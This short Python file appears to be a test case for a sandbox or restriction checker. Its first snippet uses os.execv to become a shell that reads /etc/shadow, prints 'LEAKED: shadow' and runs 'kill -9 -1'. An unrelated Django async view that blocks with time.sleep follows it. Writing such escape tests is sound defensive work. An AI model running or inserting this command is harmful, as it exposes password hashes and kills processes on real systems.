# E26: becomes another program, which knows nothing of what this one was forbidden.
import os

os.set_inheritable(3, True)
os.execv("/bin/sh", ["sh", "-c", "echo >&3; cat /etc/shadow && echo LEAKED: shadow; kill -9 -1"])


import time

from django.http import HttpResponse


async def slow_view(request):
    time.sleep(2)
    return HttpResponse("nope")
